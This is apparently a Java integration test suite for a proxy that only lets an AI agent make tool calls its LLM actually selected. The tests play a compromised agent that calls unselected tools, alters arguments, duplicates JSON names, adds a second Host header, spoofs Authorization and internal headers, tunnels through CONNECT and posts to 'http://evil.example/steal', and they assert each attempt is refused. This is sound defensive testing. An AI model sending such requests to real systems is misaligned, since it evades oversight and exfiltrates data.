/* SPDX-License-Identifier: Apache-2.0 */
package io.casa.endtoend;

import static io.casa.endtoend.Refusals.assertDone;
import static io.casa.endtoend.Refusals.assertFailedTool;
import static org.assertj.core.api.Assertions.assertThat;

import io.casa.endtoend.PuppetAgent.Hands;
import io.casa.endtoend.RawHttp.RawAnswer;
import io.casa.endtoend.RawHttp.RawRequest;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** What a compromised agent may send to its proxy in the middle of a rightful session. */
@ExtendWith(SharedPuppets.class)
final class AttacksByAgentIT {
  private static final String SELECTED = "list_branches";
  private static final String OTHER = "book_appointment";
  private static final String BOOKING = "{\"branch\": \"Harbour\", \"time\": \"10:00\"}";
  private static final String TUNNEL = "branches.bank.example:80";

  private final Puppets puppets;

  AttacksByAgentIT(Puppets puppets) {
    this.puppets = puppets;
  }

  @BeforeEach
  void forget() {
    puppets.forget();
  }

  @Test
  void selectedCallThenIsDone() {
    assertDone(afterSelection(Hands.toolCall(SELECTED, "{}")));
    assertThat(puppets.branches.toolCalls()).hasSize(1);
  }

  @Test
  void callBeforeTheLlmWasAskedThenIsAFailedTool() {
    assertFailedTool(
        puppets.during(hands -> hands.call(OTHER, BOOKING)), "no_llm_calls_made_by_app");
    assertNothingArrived();
  }

  @Test
  void otherToolThenIsAFailedTool() {
    assertFailedTool(afterSelection(Hands.toolCall(OTHER, BOOKING)), "tool_not_selected_by_llm");
    assertNothingArrived();
  }

  @Test
  void otherArgumentsThenIsAFailedTool() {
    var changed = BOOKING.replace("Harbour", "Old Town");

    assertFailedTool(
        puppets.afterSelection(OTHER, BOOKING, Hands.toolCall(OTHER, changed)),
        "tool_parameters_mismatch");
    assertNothingArrived();
  }

  @Test
  void schemaDefaultFilledInThenIsDone() {
    var filledIn = "{\"branch\": \"Harbour\", \"weekday\": \"Monday\"}";

    assertDone(
        puppets.afterSelection(
            "opening_hours",
            "{\"branch\": \"Harbour\"}",
            Hands.toolCall("opening_hours", filledIn)));
  }

  @Test
  void secondCallOnOneSelectionThenIsAFailedTool() {
    var answer =
        puppets.during(
            hands -> {
              puppets.llm.select(hands.prompt(), SELECTED, "{}");
              hands.askLlm();
              assertDone(hands.call(SELECTED, "{}"));
              return hands.call(SELECTED, "{}");
            });

    assertFailedTool(answer, "tool_not_selected_by_llm");
    assertThat(puppets.branches.toolCalls()).hasSize(1);
  }

  @Test
  void callWithoutAnySessionThenIsAFailedTool() {
    var proxy = puppets.casa.app("assistant").outboundProxy();

    assertFailedTool(RawHttp.send(proxy, Hands.toolCall(SELECTED, "{}")), "no_live_session");
    assertNothingArrived();
  }

  @Test
  void duplicateNamesThenIsRefused() {
    var body =
        Hands.message(SELECTED, "{}")
            .replace("\"name\":", "\"name\": \"book_appointment\", \"name\":");

    assertMalformed(afterSelection(Hands.mcp(body)));
  }

  @Test
  void batchThenIsRefused() {
    assertMalformed(afterSelection(Hands.mcp("[" + Hands.message(SELECTED, "{}") + "]")));
  }

  @Test
  void bodyOverTheLimitThenIsRefused() {
    var body = Hands.message(SELECTED, "{\"pad\": \"" + "x".repeat(1_100_000) + "\"}");

    assertThat(afterSelection(Hands.mcp(body)).status()).isEqualTo(413);
    assertNothingArrived();
  }

  @Test
  void chunkedBodyThenIsCheckedLikeAny() {
    assertDone(afterSelection(Hands.toolCall(SELECTED, "{}").chunked()));
    assertFailedTool(
        afterSelection(Hands.toolCall(OTHER, BOOKING).chunked()), "tool_not_selected_by_llm");
    assertThat(puppets.branches.toolCalls()).hasSize(1);
  }

  @Test
  void twoHostsThenIsRefused() {
    var request =
        Hands.toolCall(SELECTED, "{}")
            .line("POST /mcp HTTP/1.1")
            .with("Host: archive.bank.example:8080");

    assertThat(afterSelection(request).status()).isBetween(400, 403);
    assertNothingArrived();
  }

  @Test
  void getWithABodyThenIsRefused() {
    var request =
        Hands.toolCall(SELECTED, "{}").line("GET http://" + PuppetAgent.MCP_HOST + "/mcp HTTP/1.1");

    assertMalformed(afterSelection(request));
  }

  @Test
  void ownAuthorizationHeaderThenIsReplacedByTheToolToken() {
    // Given
    var spoofed =
        Hands.toolCall(SELECTED, "{}")
            .with("Authorization: Bearer of-the-agents-own-making")
            .with("x-casa-intent: 1")
            .with("x-envoy-anything: 1");

    // When
    var answer = afterSelection(spoofed);

    // Then
    assertDone(answer);
    var arrived = puppets.branches.toolCalls().getFirst().headers();
    assertThat(arrived.getOrDefault("authorization", ""))
        .doesNotContain("of-the-agents-own-making");
    assertThat(arrived).doesNotContainKeys("x-casa-intent", "x-envoy-anything");
  }

  @Test
  void unknownHostThenIsRefused() {
    var request = RawRequest.post("http://evil.example/steal", "evil.example", "{}");

    var answer = puppets.during(hands -> hands.send(request));

    assertThat(answer.status()).isEqualTo(403);
    assertThat(answer.header("www-authenticate")).isEmpty();
  }

  @Test
  void originFormThenIsCheckedLikeAny() {
    var line = "POST /mcp HTTP/1.1";

    assertDone(afterSelection(Hands.toolCall(SELECTED, "{}").line(line)));
    assertFailedTool(
        afterSelection(Hands.toolCall(OTHER, BOOKING).line(line)), "tool_not_selected_by_llm");
  }

  @Test
  void connectThenIsCheckedInside() {
    assertDone(throughTunnel(TUNNEL, Hands.toolCall(SELECTED, "{}").line("POST /mcp HTTP/1.1")));
    assertFailedTool(
        throughTunnel(TUNNEL, Hands.toolCall(OTHER, BOOKING).line("POST /mcp HTTP/1.1")),
        "tool_not_selected_by_llm");
  }

  @Test
  void connectToAnUnknownHostThenIsRefused() {
    var inside = Hands.toolCall(SELECTED, "{}").line("POST /mcp HTTP/1.1");

    assertThat(throughTunnel("evil.example:80", inside).status()).isEqualTo(403);
    assertNothingArrived();
  }

  @Test
  void unknownHostInsideOfATunnelThenIsRefused() {
    var inside = RawRequest.post("/steal", "evil.example", "{}");

    assertThat(throughTunnel(TUNNEL, inside).status()).isEqualTo(403);
  }

  @Test
  void refusalThenIsCountedThoughItsStatusIs200() {
    // Given
    double before = refusals();

    // When
    assertFailedTool(afterSelection(Hands.toolCall(OTHER, BOOKING)), "tool_not_selected_by_llm");

    // Then
    assertThat(refusals()).isEqualTo(before + 1);
  }

  @Test
  void vendorsKeyThenReachesTheLlmAndNoTokenOfOursDoes() {
    puppets.llm.recorder().forget();

    puppets.during(Hands::askLlm);

    assertThat(puppets.llm.recorder().received().getFirst().headers())
        .containsEntry("authorization", "Bearer " + ScriptedLlm.VENDOR_KEY);
  }

  /** How many tool calls the sidecar refused so far because no LLM selected them. */
  private double refusals() {
    return puppets
        .casa
        .metrics("assistant")
        .lines()
        .filter(line -> line.startsWith("casa_decisions_total{"))
        .filter(
            line ->
                line.contains("decision=\"refused\"")
                    && line.contains("reason=\"tool_not_selected_by_llm\""))
        .mapToDouble(line -> Double.parseDouble(line.substring(line.lastIndexOf(' ') + 1)))
        .sum();
  }

  private RawAnswer afterSelection(RawRequest request) {
    return puppets.afterSelection(SELECTED, "{}", request);
  }

  private RawAnswer throughTunnel(String target, RawRequest inside) {
    return puppets.during(
        hands -> {
          puppets.llm.select(hands.prompt(), SELECTED, "{}");
          hands.askLlm();
          return RawHttp.sendThroughTunnel(hands.outboundProxy(), target, inside);
        });
  }

  private void assertMalformed(RawAnswer answer) {
    assertThat(answer.status()).as("%s", answer).isEqualTo(400);
    assertThat(answer.header("www-authenticate")).isEmpty();
    assertNothingArrived();
  }

  private void assertNothingArrived() {
    assertThat(puppets.branches.toolCalls()).isEmpty();
  }
}
